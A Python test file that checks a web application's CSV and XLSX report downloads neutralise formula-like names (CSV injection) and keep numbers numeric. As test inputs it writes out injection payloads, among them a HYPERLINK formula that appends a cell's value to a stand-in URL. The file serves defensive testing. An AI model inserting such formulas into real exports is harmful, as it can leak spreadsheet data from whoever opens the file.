"""Text a user typed never runs as a formula in a CSV or XLSX download (OWASP, CSV injection);
numbers stay numbers."""

import datetime as dt
from decimal import Decimal
from typing import Any

import httpx
from sqlalchemy.ext.asyncio import AsyncSession

from app.models import Metric, Target, TargetScope
from app.reports.export import neutralize_formula
from tests.fixtures.registry import ZoneFactory
from tests.reports.files import csv_table, xlsx_tables

AS_OF = {"as_of": "2024-06-30"}
HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")'
# Typed through the API: the input is trimmed, so these keep their first character.
TYPED = (HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A2)")
# A leading tab or carriage return cannot come through the API (trimmed); rows stored before.
STORED = ("\t=1+1", "\r=1+1")
DANGEROUS = TYPED + STORED
# As an XML parser reads them back from the XLSX: a raw carriage return becomes a line feed.
DANGEROUS_XML = tuple(name.replace("\r", "\n") for name in DANGEROUS)


async def _targets_named(editor: httpx.AsyncClient, session: AsyncSession) -> None:
    for name in TYPED:
        response = await editor.post(
            "/api/v1/targets",
            json={
                "name": name,
                "metric": "members_admitted",
                "period_start": "2024-01-01",
                "period_end": "2024-12-31",
                "value": 4,
            },
        )
        assert response.status_code == 201, response.text
        assert response.json()["name"] == name
    for name in STORED:
        session.add(
            Target(
                name=name,
                metric=Metric.MEMBERS_ADMITTED,
                scope=TargetScope.COMMITTEE,
                period_start=dt.date(2024, 1, 1),
                period_end=dt.date(2024, 12, 31),
                value=4,
            )
        )
    await session.commit()


async def _download(client: httpx.AsyncClient, path: str, fmt: str) -> bytes:
    response = await client.get(f"/api/v1/reports/{path}.{fmt}", params=AS_OF)
    assert response.status_code == 200, response.text
    return response.content


def _assert_neutralized(texts: list[Any], names: tuple[str, ...]) -> None:
    for name in names:
        assert "'" + name in texts
        assert name not in texts
    for text in texts:
        if isinstance(text, str):
            assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), text


async def test_attainment_downloads_keep_formula_like_names_as_text(
    editor: httpx.AsyncClient, session: AsyncSession
) -> None:
    await _targets_named(editor, session)

    table = csv_table(await _download(editor, "attainment", "csv"))
    header, body = table.header, table.rows
    assert len(body) == len(DANGEROUS)
    _assert_neutralized([cell for row in body for cell in row], DANGEROUS)
    actual, target = header.index("Thực hiện"), header.index("Chỉ tiêu")
    assert {(row[actual], row[target]) for row in body} == {("0", "4")}

    [sheet] = xlsx_tables(await _download(editor, "attainment", "xlsx")).values()
    columns, cells = sheet.header, sheet.rows
    assert len(cells) == len(DANGEROUS)
    _assert_neutralized([cell for row in cells for cell in row], DANGEROUS_XML)
    actual, target = columns.index("Thực hiện"), columns.index("Chỉ tiêu")
    expected = columns.index("Theo tiến độ")
    for cell_row in cells:
        assert (cell_row[actual], cell_row[target]) == (0, 4)
        assert type(cell_row[actual]) is int
        assert type(cell_row[target]) is int
        assert type(cell_row[expected]) in (int, float)  # a whole Decimal reads back as an int


async def test_overview_downloads_keep_formula_like_names_as_text(
    editor: httpx.AsyncClient, session: AsyncSession, make_zone: ZoneFactory
) -> None:
    await _targets_named(editor, session)
    for n, name in enumerate(DANGEROUS):
        await make_zone(code=f"Z{n}", name=name)

    rows = csv_table(await _download(editor, "overview", "csv")).rows
    _assert_neutralized([cell for row in rows for cell in row], DANGEROUS)
    by_zone = [row for row in rows if row[1].startswith("'")]
    assert len(by_zone) == len(DANGEROUS)
    assert {row[2] for row in by_zone} == {"0"}
    values = {row[1]: row[2] for row in rows}
    assert values["KCN đang hoạt động"] == str(len(DANGEROUS))

    overview, targets = xlsx_tables(await _download(editor, "overview", "xlsx")).values()
    _assert_neutralized([cell for row in overview.rows for cell in row], DANGEROUS_XML)
    _assert_neutralized([cell for row in targets.rows for cell in row], DANGEROUS_XML)
    figures = {row[1]: row[2] for row in overview.rows}
    assert figures["KCN đang hoạt động"] == len(DANGEROUS)
    assert all(isinstance(row[2], int | float) for row in overview.rows if row[2] is not None)


def test_formula_like_text_gets_a_leading_quote() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK):
        assert neutralize_formula(text) == "'" + text


def test_other_values_pass_unchanged() -> None:
    for value in ("KCN Thăng Long", "", "1+1", "'=1", None, dt.date(2024, 1, 1)):
        assert neutralize_formula(value) == value
    for number in (0, 7, -7, 1.5, -1.5, Decimal("-2.5"), Decimal("3.0")):
        kept = neutralize_formula(number)
        assert kept == number
        assert type(kept) is type(number)
